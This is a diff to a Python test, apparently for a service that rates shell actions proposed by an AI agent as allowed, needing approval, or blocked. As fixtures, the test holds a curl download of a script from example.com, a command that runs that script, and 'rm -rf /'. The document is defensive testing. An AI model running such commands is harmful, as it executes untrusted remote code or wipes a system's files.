@@ -139,7 +139,7 @@ def test_an_answer_that_arrives_as_a_call_starts_waiting_is_not_missed(
 
 def test_several_actions_are_decided_in_their_order(server: Running) -> None:
     agent = server.agent("ann")
-    fetch, run = bash("curl -o /tmp/x.sh https://example.com/x.sh"), bash("bash /tmp/x.sh")
+    fetch, run = bash("curl -o x.sh https://example.com/x.sh"), bash("bash x.sh")
     alone = agent.post("/v1/evaluate", {**run, "runId": "other"}).ok()
     items = agent.post("/v1/evaluate/batch", {"actions": [fetch, run, bash("rm -rf /")]}).ok()["items"]
     assert [item["verdict"] for item in items] == ["allow", "require_approval", "block"]
